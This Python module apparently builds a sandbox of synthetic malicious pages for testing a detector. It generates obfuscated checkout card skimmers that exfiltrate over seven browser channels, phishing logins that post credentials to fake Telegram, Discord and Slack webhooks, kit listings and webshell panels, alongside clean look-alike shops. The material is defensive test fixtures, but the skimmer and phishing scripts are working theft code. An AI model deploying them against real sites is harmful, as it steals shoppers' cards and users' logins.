"""Sandbox pages of every exfiltration channel, phishing-kit traces and webshells.

- Skimmers that load only on checkout paths, string-array obfuscated (the
  obfuscator.io shape: a rotated array of base64 strings and an accessor), one per
  channel: fetch, XHR, sendBeacon, an image URL, a form posted into a hidden
  frame, a WebSocket and a WebRTC data channel.
- Open directory listings (Apache and nginx autoindex) holding kit archives.
- Phishing forms that post the login to a Telegram bot, a Discord webhook or a
  Slack webhook.
- WSO-, b374k- and Alfa-like webshell panels.
- Their clean look-alikes: a shop that sends card data to its own WebSocket, a
  shop that tokenises with Stripe, plain document listings, a file manager's
  legitimate login page.

Everything is synthetic and inert: the "shells" run nothing, the gates log.
"""

from __future__ import annotations

import base64
import html
import json

from aiohttp import web

from tocsin.sandbox.catalogue import attacker
from tocsin.sandbox.pages import (
    GIF,
    Env,
    Reply,
    Result,
    _log,
    behaviour,
    common_files,
    js,
    not_found,
    page,
    serve_websocket,
)

# --------------------------------------------------------------------------- obfuscation


def string_array(body: str, strings: list[str], *, rotate: int, offset: int, name: str) -> str:
    """``body`` with ``S(i)`` placeholders, wrapped in an obfuscator.io-style string array.

    The strings are stored base64-encoded in an array rotated by ``rotate``, which
    a self-invoking function puts back; an accessor ``name(0x..)`` decodes them.
    """
    encoded = [base64.b64encode(s.encode()).decode() for s in strings]
    k = rotate % len(encoded)
    stored = encoded[k:] + encoded[:k]
    array = f"_0x{offset:x}a"
    lines = [
        f"var {array}=[{','.join(repr(s) for s in stored)}];",
        f"(function(a,n){{while(n--){{a['unshift'](a['pop']())}}}})({array},{hex(k)});",
        f"var {name}=function(i){{i=i-{hex(offset)};return atob({array}[i])}};",
    ]
    for i in range(len(strings)):
        body = body.replace(f"S({i})", f"{name}({hex(i + offset)})")
    return "".join(lines) + body


# The parts every skimmer shares: only on checkout paths, collect on change/blur and
# on the order button, then ``send(payload)`` by the variant's channel.
_COMMON = [
    "checkout|onestepcheckout|payment",  # 0
    "pathname",  # 1
    "querySelectorAll",  # 2
    "input,select",  # 3
    "addEventListener",  # 4
    "change",  # 5
    "blur",  # 6
    "click",  # 7
    "#place-order,button[type=submit]",  # 8
    "stringify",  # 9
]
_SKELETON = (
    ";(function(){if(!new RegExp(S(0)).test(location[S(1)]))return;var k={};"
    "function c(){var f=document[S(2)](S(3));for(var i=0;i<f.length;i++){"
    "var n=f[i].name||f[i].id;if(n)k[n]=f[i].value}k.h=location.hostname}"
    "function x(){c();try{send(JSON[S(9)](k))}catch(e){}}"
    "function init(){setup();var f=document[S(2)](S(3));for(var i=0;i<f.length;i++){"
    "f[i][S(4)](S(5),x);f[i][S(4)](S(6),x)}var b=document[S(2)](S(8));"
    "for(var j=0;j<b.length;j++)b[j][S(4)](S(7),x)}"
    "%(channel)s"
    "if(document.readyState==='loading'){document[S(4)]('DOMContentLoaded',init)}"
    "else{init()}})();\n"
)


def _channel(env: Env, channel: str) -> tuple[str, list[str]]:
    """The variant's ``setup()`` and ``send(p)``, and the strings they add."""
    n = len(_COMMON)

    def s(i: int) -> str:
        return f"S({n + i})"

    gate = env.atk("skimfetch")
    pixel = env.atk("skimimg")
    if channel == "fetch":
        return (
            f"function setup(){{}}function send(p){{window[{s(0)}]({s(1)},"
            f"{{method:'POST',mode:'no-cors',body:p}})}}",
            ["fetch", f"{gate}/api/v2/collect"],
        )
    if channel == "xhr":
        return (
            f"function setup(){{}}function send(p){{var r=new window[{s(0)}]();"
            f"r.open('POST',{s(1)});r.send(window[{s(2)}](unescape(encodeURIComponent(p))))}}",
            ["XMLHttpRequest", f"{gate}/jquery.min.map", "btoa"],
        )
    if channel == "beacon":
        return (
            "function setup(){}function send(p){var h='';for(var i=0;i<p.length;i++)"
            "h+=('0'+p.charCodeAt(i).toString(16)).slice(-2);"
            f"navigator[{s(0)}]({s(1)},h)}}",
            ["sendBeacon", f"{gate}/b/metrics"],
        )
    if channel == "image":
        return (
            f"function setup(){{}}function send(p){{var i=new window[{s(0)}]();"
            f"i.src={s(1)}+encodeURIComponent(btoa(unescape(encodeURIComponent(p))))}}",
            ["Image", f"{pixel}/px.gif?t=1&v="],
        )
    if channel == "form":
        return (
            "var fr;function setup(){fr=document.createElement('iframe');fr.name='_sf';"
            "fr.style.display='none';document.body.appendChild(fr)}"
            f"function send(p){{var f=document.createElement({s(0)});f.method='POST';"
            f"f.action={s(1)};f.target='_sf';f.style.display='none';"
            "var i=document.createElement('input');i.type='hidden';i.name='d';"
            "i.value=btoa(unescape(encodeURIComponent(p)));f.appendChild(i);"
            "document.body.appendChild(f);HTMLFormElement.prototype.submit.call(f);"
            "f.remove()}",
            ["form", f"{pixel}/submit.php"],
        )
    if channel == "websocket":
        ws = env.atk("skimws").replace("http://", "ws://", 1)
        return (
            f"var w;function setup(){{w=new window[{s(0)}]({s(1)})}}"
            "function send(p){if(w&&w.readyState===1)w.send(JSON.stringify("
            "{t:'sync',d:btoa(unescape(encodeURIComponent(p)))}))}",
            ["WebSocket", f"{ws}/socket/checkout"],
        )
    if channel == "webrtc":
        host = attacker("skimrtc")
        return (
            f"var dc,q=[];function setup(){{var pc=new window[{s(0)}]({{iceServers:[{{urls:"
            f"{s(1)},username:'u7',credential:'k9'}}]}});dc=pc.createDataChannel({s(2)});"
            "dc.onopen=function(){while(q.length)dc.send(q.shift())};"
            "pc.createOffer().then(function(o){return pc.setLocalDescription(o)})"
            ".catch(function(){})}"
            "function send(p){p=btoa(unescape(encodeURIComponent(p)));"
            "try{dc.send(p)}catch(e){q.push(p)}}",
            ["RTCPeerConnection", f"turn:{host}:3478?transport=tcp", "sync"],
        )
    raise ValueError(channel)


def skimmer(env: Env, channel: str) -> str:
    """The obfuscated skimmer of one channel."""
    code, strings = _channel(env, channel)
    body = _SKELETON % {"channel": code}
    seed = sum(map(ord, env.site.host))
    return string_array(
        body, _COMMON + strings, rotate=seed % 7 + 2, offset=0x1A0 + seed % 64, name="_0x4e1c"
    )


_CHECKOUT_FORM = """<h2>Checkout</h2>
<form id="checkout" action="{action}" method="post">
<fieldset><legend>Billing</legend>
<input name="firstname" placeholder="First name" autocomplete="given-name">
<input name="lastname" placeholder="Last name" autocomplete="family-name">
<input name="email" type="email" placeholder="Email" autocomplete="email"></fieldset>
<fieldset><legend>Payment</legend>
<input name="{prefix}cc_owner" placeholder="Name on card" autocomplete="cc-name">
<input name="{prefix}cc_number" placeholder="Card number" autocomplete="cc-number"
 inputmode="numeric">
<input name="{prefix}cc_exp" placeholder="MM/YY" autocomplete="cc-exp">
<input name="{prefix}cc_cvv" placeholder="CVV" autocomplete="cc-csc"></fieldset>
<p>Order total: {total}</p>
<button type="{button}" id="place-order">Place order</button>
</form>"""

APP_JS = """/* storefront app v4.1: cart badge, newsletter */
(function(){var b=document.querySelector('.cart-count');if(b)b.textContent='1';})();
"""


def _checkout(env: Env, *, scripts: str, button: str = "submit", prefix: str = "") -> Reply:
    content = _CHECKOUT_FORM.format(
        action="/checkout/place-order", prefix=prefix, total="$58.00", button=button
    )
    return page(env, content, scripts=scripts, title=f"Checkout - {env.site.title}")


SKIMMER_CHANNELS = ("fetch", "xhr", "beacon", "image", "form", "websocket", "webrtc")


def _skimmer_site(channel: str) -> None:
    @behaviour(f"skimmer-{channel}")
    async def serve(env: Env) -> Result:
        if env.path == "/static/js/app.min.js":
            return js(APP_JS + (skimmer(env, channel) if env.compromised else ""))
        if env.path == "/":  # the same site-wide script, and a field it would hook
            home = (
                "<h2>Our shop</h2><p><a href='/checkout/'>Cart (1)</a></p>"
                "<form><input type='email' name='newsletter' placeholder='Email'></form>"
            )
            return page(env, home, scripts='<script src="/static/js/app.min.js"></script>')
        if env.path == "/checkout/place-order" and env.request.method == "POST":
            return Reply("<p>Thank you for your order.</p>")
        if env.path not in ("/checkout/", "/checkout/onepage/"):
            return common_files(env)
        return _checkout(env, scripts='<script src="/static/js/app.min.js"></script>')


for _channel_name in SKIMMER_CHANNELS:
    _skimmer_site(_channel_name)


# --------------------------------------------------------------------------- clean shops

OWN_WS_JS = """/* payments v3: card entry over the shop's own payment socket */
(function(){
  var sock = new WebSocket(location.origin.replace(/^http/, 'ws') + '/payments/socket');
  function digits(v){ return (v || '').replace(/\\D/g, ''); }
  var num = document.querySelector('[name=cc_number]');
  num.addEventListener('input', function(){ num.value = digits(num.value).slice(0, 19); });
  function pay(){
    var card = {number: digits(num.value),
      exp: document.querySelector('[name=cc_exp]').value,
      cvc: document.querySelector('[name=cc_cvv]').value};
    if (sock.readyState === 1) sock.send(JSON.stringify({op: 'authorize', card: card}));
  }
  document.querySelector('[name=cc_cvv]').addEventListener('change', pay);
  document.getElementById('place-order').addEventListener('click', pay);
})();
"""


@behaviour("shop-own-socket")
async def shop_own_socket(env: Env) -> Result:
    if env.path == "/static/js/payments.js":
        return js(OWN_WS_JS)
    if env.path == "/payments/socket":

        async def authorise(ws: web.WebSocketResponse, _text: str) -> bool:
            await ws.send_json({"op": "authorized", "id": "pay_0001"})
            return True

        return await serve_websocket(env, authorise)
    if env.path == "/":
        return page(env, "<h2>Tea and teaware</h2><p><a href='/checkout/'>Basket</a></p>")
    if env.path != "/checkout/":
        return common_files(env)
    return _checkout(env, button="button", scripts='<script src="/static/js/payments.js"></script>')


STRIPE_JS = """/* Stripe.js v3 (sandbox stand-in) */
window.Stripe = function (key) {
  return {
    createToken: function (card) {
      var body = 'key=' + encodeURIComponent(key);
      for (var k in card) body += '&card[' + k + ']=' + encodeURIComponent(card[k]);
      return fetch('%(api)s/v1/tokens', {method: 'POST', body: body,
        headers: {'Content-Type': 'application/x-www-form-urlencoded'}})
        .then(function (r) { return r.json(); });
    }
  };
};
"""

SHOP_STRIPE_JS = """/* checkout: tokenise with Stripe, charge on our server */
(function(){
  var stripe = Stripe('pk_test_sandbox51Hx');
  function v(n){ return document.querySelector('[name=' + n + ']').value; }
  function pay(){
    stripe.createToken({number: v('cc_number'), exp: v('cc_exp'), cvc: v('cc_cvv'),
      name: v('cc_owner')}).then(function (t) {
        return fetch('/checkout/charge', {method: 'POST', body: JSON.stringify({token: t.id})});
      }).catch(function(){});
  }
  document.querySelector('[name=cc_number]').addEventListener('blur', function(){});
  document.getElementById('place-order').addEventListener('click', pay);
})();
"""


@behaviour("shop-stripe")
async def shop_stripe(env: Env) -> Result:
    if env.path == "/static/js/checkout.js":
        return js(SHOP_STRIPE_JS)
    if env.path == "/checkout/charge" and env.request.method == "POST":
        return Reply('{"ok":true}', content_type="application/json")
    if env.path == "/":
        return page(env, "<h2>Handmade leather goods</h2><p><a href='/checkout/'>Bag</a></p>")
    if env.path != "/checkout/":
        return common_files(env)
    scripts = (
        f'<script src="{env.tp("stripejs")}/v3/"></script>\n'
        '<script src="/static/js/checkout.js"></script>'
    )
    return _checkout(env, button="button", scripts=scripts)


@behaviour("third-party-stripejs")
async def third_party_stripejs(env: Env) -> Result:
    if env.path in ("/v3/", "/v3"):
        return js(STRIPE_JS % {"api": env.tp("stripeapi")})
    return None


_CORS = {
    "Access-Control-Allow-Origin": "*",
    "Access-Control-Allow-Headers": "Content-Type",
    "Access-Control-Allow-Methods": "POST, GET, OPTIONS",
}


@behaviour("third-party-stripeapi")
async def third_party_stripeapi(env: Env) -> Result:
    if env.path == "/v1/tokens":
        if env.request.method == "POST":
            await env.request.read()
        body = json.dumps({"id": "tok_sandbox_4242", "object": "token"})
        return Reply(body, content_type="application/json", headers=_CORS)
    return None


# --------------------------------------------------------------------------- attacker gates


@behaviour("attacker-skimfetch")
async def attacker_skimfetch(env: Env) -> Result:
    if env.path in ("/api/v2/collect", "/jquery.min.map", "/b/metrics"):
        if env.request.method == "OPTIONS":
            return Reply("", status=204, headers=_CORS)
        data = await env.request.read() if env.request.can_read_body else b""
        _log(env, "exfil", data[:4096].decode("utf-8", "replace"))
        return Reply("{}", content_type="application/json", headers=_CORS)
    return None


@behaviour("attacker-skimimg")
async def attacker_skimimg(env: Env) -> Result:
    if env.path == "/px.gif":
        _log(env, "exfil", env.request.query.get("v", "")[:4096])
        return Reply(GIF, content_type="image/gif")
    if env.path == "/submit.php":
        data = await env.request.read() if env.request.can_read_body else b""
        _log(env, "exfil", data[:4096].decode("utf-8", "replace"))
        return Reply("<html><body>ok</body></html>")
    return None


@behaviour("attacker-skimws")
async def attacker_skimws(env: Env) -> Result:
    if env.path != "/socket/checkout":
        return None

    async def collect(ws: web.WebSocketResponse, text: str) -> bool:
        _log(env, "exfil", text[:4096])
        await ws.send_str('{"t":"ack"}')
        return True

    return await serve_websocket(env, collect)


@behaviour("attacker-skimrtc")
async def attacker_skimrtc(env: Env) -> Result:
    return None  # a TURN relay: nothing over HTTP (and no UDP leaves the guard's browser)


# --------------------------------------------------------------------------- kit listings


def _apache_index(path: str, rows: list[tuple[str, str, str]]) -> str:
    """An Apache mod_autoindex (FancyIndexing, table) page."""
    out = [
        '<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 3.2 Final//EN">\n<html>\n <head>\n',
        f"  <title>Index of {html.escape(path.rstrip('/') or '/')}</title>\n </head>\n <body>\n",
        f"<h1>Index of {html.escape(path.rstrip('/') or '/')}</h1>\n  <table>\n",
        '   <tr><th valign="top"><img src="/icons/blank.gif" alt="[ICO]"></th>'
        '<th><a href="?C=N;O=D">Name</a></th><th><a href="?C=M;O=A">Last modified</a></th>'
        '<th><a href="?C=S;O=A">Size</a></th><th><a href="?C=D;O=A">Description</a></th></tr>\n'
        '   <tr><th colspan="5"><hr></th></tr>\n',
        '<tr><td valign="top"><img src="/icons/back.gif" alt="[PARENTDIR]"></td>'
        '<td><a href="../">Parent Directory</a></td><td>&nbsp;</td>'
        '<td align="right">  - </td><td>&nbsp;</td></tr>\n',
    ]
    for name, date, size in rows:
        icon = "folder" if name.endswith("/") else "compressed" if ".zip" in name else "text"
        out.append(
            f'<tr><td valign="top"><img src="/icons/{icon}.gif" alt="[   ]"></td>'
            f'<td><a href="{html.escape(name)}">{html.escape(name)}</a></td>'
            f'<td align="right">{date}  </td><td align="right">{size}</td>'
            "<td>&nbsp;</td></tr>\n"
        )
    out.append(
        '   <tr><th colspan="5"><hr></th></tr>\n</table>\n'
        "<address>Apache/2.4.58 (Unix) Server Port 80</address>\n</body></html>\n"
    )
    return "".join(out)


def _nginx_index(path: str, rows: list[tuple[str, str, str]]) -> str:
    """An nginx autoindex page."""
    out = [
        f"<html>\r\n<head><title>Index of {html.escape(path)}</title></head>\r\n<body>\r\n",
        f'<h1>Index of {html.escape(path)}</h1><hr><pre><a href="../">../</a>\r\n',
    ]
    for name, date, size in rows:
        pad = " " * max(1, 51 - len(name))
        out.append(
            f'<a href="{html.escape(name)}">{html.escape(name)}</a>{pad}{date} {size:>19}\r\n'
        )
    out.append("</pre><hr></body>\r\n</html>\r\n")
    return "".join(out)


LISTINGS: dict[str, tuple[str, list[tuple[str, str, str]]]] = {
    "kit-listing-apache": (
        "apache",
        [
            ("webmail/", "2024-05-02 03:11", "-"),
            ("Office365-Login-2024.zip", "2024-05-02 03:10", "1.2M"),
            ("dhl_tracking_kit.zip", "2024-05-02 03:10", "840K"),
            ("logo.png", "2023-11-20 09:45", "14K"),
        ],
    ),
    "kit-listing-nginx": (
        "nginx",
        [
            ("css/", "12-Apr-2024 22:41", "-"),
            ("netflix-billing-update.zip", "12-Apr-2024 22:40", "2217341"),
            ("scampage_v3.rar", "12-Apr-2024 22:40", "998412"),
            ("readme.txt", "12-Apr-2024 22:40", "512"),
        ],
    ),
    "docs-listing-apache": (
        "apache",
        [
            ("agm-minutes-2023.pdf", "2023-10-14 18:02", "220K"),
            ("bylaws-2019.zip", "2019-06-01 10:00", "88K"),
            ("newsletter-spring-2024.pdf", "2024-03-21 08:15", "1.1M"),
            ("photos-summer-fete-2023.zip", "2023-08-30 20:12", "48M"),
        ],
    ),
    "docs-listing-nginx": (
        "nginx",
        [
            ("CHANGELOG.txt", "02-Feb-2024 11:00", "18211"),
            ("libtidy-helper-1.4.2.tar.gz", "02-Feb-2024 11:00", "304122"),
            ("libtidy-helper-1.4.2.zip", "02-Feb-2024 11:00", "331977"),
            ("manual-en.pdf", "02-Feb-2024 11:00", "1200331"),
        ],
    ),
}


@behaviour("dir-listing")
async def dir_listing(env: Env) -> Result:
    """An open directory at the site's entry; a kit listing only while compromised."""
    if env.path == "/":
        return page(env)
    if env.path != env.site.entry:
        if env.path.startswith(env.site.entry) and not env.path.endswith("/"):
            return Reply(b"PK\x05\x06" + b"\x00" * 18, content_type="application/zip")
        return common_files(env)
    style, rows = LISTINGS[env.site.id]
    if env.site.kind == "compromised" and not env.compromised:
        return not_found()
    build = _apache_index if style == "apache" else _nginx_index
    return Reply(build(env.site.entry, rows))


# --------------------------------------------------------------------------- bot exfil phishing

_LOGIN = """<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">
<title>{title}</title><style>body{{font-family:Arial;background:#eef1f5}}
.box{{width:360px;margin:80px auto;background:#fff;padding:28px;border-radius:8px}}
input{{width:100%;padding:9px;margin:6px 0}}</style></head><body><div class="box">
<h2>{heading}</h2><p>{lure}</p>
<form id="lf" method="post" action="{action}">
<input type="email" name="email" id="email" placeholder="Email address" required>
<input type="password" name="password" id="password" placeholder="Password" required>
<button type="submit">{button}</button></form></div>
{scripts}</body></html>"""

TELEGRAM_JS = """(function(){
  var t = ['sendMessage', '/bot', '6012345678:AAH-sbxTokenForTocsinSandbox01', '%(origin)s'];
  var u = t[3] + t[1] + t[2] + '/' + t[0];
  function go(){
    var e = document.getElementById('email').value, p = document.getElementById('password').value;
    if (!e || !p) return;
    fetch(u, {method: 'POST', mode: 'no-cors', headers: {'Content-Type': 'application/json'},
      body: JSON.stringify({chat_id: '-1002233445566',
        text: 'SharePoint Login\\nEmail: ' + e + '\\nPass: ' + p +
          '\\nUA: ' + navigator.userAgent})});
  }
  document.getElementById('password').addEventListener('change', go);
})();"""

DISCORD_JS = """/* verify.js */
var hook = "%(origin)s/api/webhooks/1187654321098765432/sbxWebhookTokenForTocsin";
document.getElementById('lf').addEventListener('submit', function (ev) {
  ev.preventDefault();
  var data = {content: 'New log: ' + document.getElementById('email').value + ' | ' +
    document.getElementById('password').value};
  var x = new XMLHttpRequest(); x.open('POST', hook); x.setRequestHeader('Content-Type',
    'application/json'); x.send(JSON.stringify(data));
  setTimeout(function(){ location.href = 'https://www.dhl.com/'; }, 800);
});
"""

SLACK_JS = """(function(){
  var h = '%(origin)s' + '/services/T04SBX0001/B06SBX0002/sbxTocsinSlackHookToken';
  var f = document.getElementById('lf');
  var sent = '';
  function go () {
    var pw = document.getElementById('password').value;
    if (pw.length < 6 || pw === sent) return;
    sent = pw;
    navigator.sendBeacon(h, JSON.stringify({text: 'webmail ' +
      document.getElementById('email').value + ' / ' + pw}));
  }
  f.querySelectorAll('input').forEach(function (i) {
    i.addEventListener('input', go);
    i.addEventListener('blur', go);
  });
})();"""


@behaviour("phishing-bot")
async def phishing_bot(env: Env) -> Result:
    """A login form whose script hands the login to a messaging bot (one per tag)."""
    if env.path == "/":
        return page(env)
    base = env.site.entry.rsplit("/", 1)[0]
    bot = env.site.tags[0]
    if env.path == f"{base}/verify.js" and bot == "discord":
        if not env.compromised:
            return not_found()
        return js(DISCORD_JS % {"origin": env.tp("discord")})
    if env.path != env.site.entry:
        return common_files(env)
    if not env.compromised:
        return not_found()
    if bot == "telegram":
        fields = {
            "title": "SharePoint - Shared Document",
            "heading": "A document has been shared with you",
            "lure": "Sign in with your work email to view 'Invoice_2024_0412.pdf'.",
            "button": "View document",
            "scripts": f"<script>{TELEGRAM_JS % {'origin': env.tp('telegram')}}</script>",
        }
    elif bot == "discord":
        fields = {
            "title": "DHL Express | Delivery pending",
            "heading": "Your parcel is on hold",
            "lure": "Log in to confirm your delivery address and pay the EUR 1.99 fee.",
            "button": "Continue",
            "scripts": '<script src="verify.js"></script>',
        }
    else:
        fields = {
            "title": "Webmail :: Session expired",
            "heading": "Webmail",
            "lure": "Your session has expired. Sign in again to keep receiving mail.",
            "button": "Sign in",
            "scripts": f"<script>{SLACK_JS % {'origin': env.tp('slack')}}</script>",
        }
    return Reply(_LOGIN.format(action="#", **fields))


@behaviour("third-party-telegram")
async def third_party_telegram(env: Env) -> Result:
    if env.path.startswith("/bot"):
        if env.request.method == "OPTIONS":
            return Reply("", status=204, headers=_CORS)
        await env.request.read()
        return Reply('{"ok":true,"result":{}}', content_type="application/json", headers=_CORS)
    return None


@behaviour("third-party-discord")
async def third_party_discord(env: Env) -> Result:
    if env.path.startswith("/api/webhooks/"):
        if env.request.method == "OPTIONS":
            return Reply("", status=204, headers=_CORS)
        await env.request.read()
        return Reply("", status=204, headers=_CORS)
    return None


@behaviour("third-party-slack")
async def third_party_slack(env: Env) -> Result:
    if env.path.startswith("/services/"):
        await env.request.read()
        return Reply("ok", content_type="text/plain", headers=_CORS)
    return None


# --------------------------------------------------------------------------- webshells


def _files_table(rows: list[tuple[str, str, str]], actions: str) -> str:
    lines = [
        f"<tr><td><a href='#'>{html.escape(n)}</a></td><td>{size}</td><td>{perms}</td>"
        f"<td>{actions}</td></tr>"
        for n, size, perms in rows
    ]
    return "<table class='main' width='100%'>" + "".join(lines) + "</table>"


_FILES = [
    ("..", "dir", "drwxr-xr-x"),
    ("wp-admin", "dir", "drwxr-xr-x"),
    ("wp-content", "dir", "drwxr-xr-x"),
    ("index.php", "405 B", "-rw-r--r--"),
    ("wp-config.php", "3.1 KB", "-rw-rw-rw-"),
    (".htaccess", "523 B", "-rw-r--r--"),
]


def _wso(env: Env) -> str:
    table = _files_table(_FILES, "R T E D")
    return f"""<html><head><meta http-equiv='Content-Type' content='text/html; charset=UTF-8'>
<title>{html.escape(env.site.host)} - WSO 4.2.5</title>
<style>body{{background:#444;color:#e1e1e1;font:9pt Monospace}}</style></head><body>
<div style='padding:3px'><table class=info cellpadding=3 cellspacing=0 width=100%><tr>
<td width=1><span>Uname:<br>User:<br>Php:<br>Hdd:<br>Cwd:</span></td>
<td><nobr>Linux web07 5.15.0-91-generic #101-Ubuntu SMP x86_64</nobr><br>33 ( www-data )
<br>8.1.2 Safe mode: <font color=#00bb00>OFF</font> [ <a href=#>phpinfo</a> ]
Datetime: 2024-05-02 03:12:44<br>Hdd: 78.69 GB Free: 21.12 GB (26%)<br>
/var/www/html/ <a href=#>[ home ]</a></td></tr></table></div>
<table cellpadding=3 cellspacing=0 width=100% class=menu><tr>
<th>[ Sec. Info ]</th><th>[ Files ]</th><th>[ Console ]</th><th>[ Sql ]</th>
<th>[ Php ]</th><th>[ String tools ]</th><th>[ Bruteforce ]</th><th>[ Network ]</th>
<th>[ Self remove ]</th></tr></table>
<h1>File manager</h1>{table}
<form method=post name=cf><input type=hidden name=a value='FilesMan'>
Change dir: <input type=text name=c value='/var/www/html/'></form>
<h1>Console</h1><form method=post><input type=hidden name=a value='Console'>
Execute: <input type=text name=p1 style='width:80%'> <input type=submit value='>>'></form>
<form method=post enctype=multipart/form-data>Upload file: <input type=file name=f>
<input type=submit value='>>'></form></body></html>"""


def _b374k(env: Env) -> str:
    rows = "".join(
        f"<tr><td><input type='checkbox'> {html.escape(n)}</td><td>{size}</td>"
        f"<td class='explorePerms'>{perms}</td><td>2024-04-30 12:01:17</td>"
        "<td><a>edit</a> | <a>rename</a> | <a>chmod</a> | <a>delete</a> | <a>download</a></td></tr>"
        for n, size, perms in _FILES
    )
    return f"""<!doctype html><html><head><title>b374k shell 3.2.3</title>
<meta charset='utf-8'></head><body>
<div id='header'><div id='headerNav'><span>b374k 3.2.3</span> / var / www / html /</div>
<div id='nav'><div class='menuitem'>explorer</div><div class='menuitem'>terminal</div>
<div class='menuitem'>eval</div><div class='menuitem'>convert</div>
<div class='menuitem'>database</div><div class='menuitem'>info</div>
<div class='menuitem'>mail</div><div class='menuitem'>processes</div>
<div class='menuitem'>reverse shell</div></div></div>
<div id='basicInfo'>Linux web03 4.18.0 x86_64 | PHP Version: 7.4.33 |
Server IP: 203.0.113.7 | disable_functions: none</div>
<table id='xplTable'>{rows}</table>
<div id='terminal'><form method='post'><input type='text' id='terminalInput' name='cmd'
 placeholder='$ run command'><input type='submit' value='Execute'></form></div>
</body></html>"""


def _alfa(env: Env) -> str:
    table = _files_table(_FILES, "Rename | Edit | Download | Chmod | Touch | Delete")
    return f"""<html><head><title>~ ALFA TEaM Shell ~</title>
<meta name='robots' content='noindex'></head><body bgcolor='#000'>
<div class='header'><font color='#FF0000'>ALFA TEaM Shell - v4.1-Tesla</font></div>
<pre>Server IP : 198.51.100.23 | Your IP : 192.0.2.10
Uname : Linux shared1 3.10.0-1160.el7.x86_64
PHP Version : 7.3.33 | Safe Mode : OFF | Disable Functions : All Functions Enable
HDD : 914.2 GB | Free : 402.7 GB</pre>
<ul class='menu'><li>Home</li><li>Upload</li><li>Back Connect</li><li>Bypass</li>
<li>Config Grabber</li><li>Symlink</li><li>Mass Deface</li><li>Command</li></ul>
{table}
<form method='post' name='alfacmd'><textarea name='cmd' rows=2></textarea>
<input type='submit' value='Execute'></form></body></html>"""


FILEMANAGER_LOGIN = """<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">
<title>File Manager - Sign in</title><style>body{font-family:sans-serif;background:#f5f6f8}
.card{width:380px;margin:90px auto;background:#fff;padding:30px;border-radius:6px}
input{width:100%;padding:8px;margin:6px 0}</style></head><body><div class="card">
<h1>File Manager</h1>
<p>Sign in to upload, edit, rename, chmod or delete the files of your website.
Console access and command execution are disabled for this account type.</p>
<form method="post" action="/filemanager/login.php">
<input type="text" name="fm_usr" placeholder="Username" autocomplete="username">
<input type="password" name="fm_pwd" placeholder="Password" autocomplete="current-password">
<input type="hidden" name="token" value="3b1f0c">
<button type="submit">Sign in</button></form>
<p><small>PHP 8.2 &middot; Version 2.5.3 &middot; &copy; 2024 Example Hosting</small></p>
</div></body></html>"""


@behaviour("webshell")
async def webshell(env: Env) -> Result:
    """A webshell panel at the site's entry (style from the first tag); the site is clean."""
    if env.path == "/":
        return page(env)
    if env.path != env.site.entry:
        return common_files(env)
    style = env.site.tags[0]
    if style == "filemanager":
        return Reply(FILEMANAGER_LOGIN)
    if not env.compromised:
        return not_found()
    build = {"wso": _wso, "b374k": _b374k, "alfa": _alfa}[style]
    return Reply(build(env))
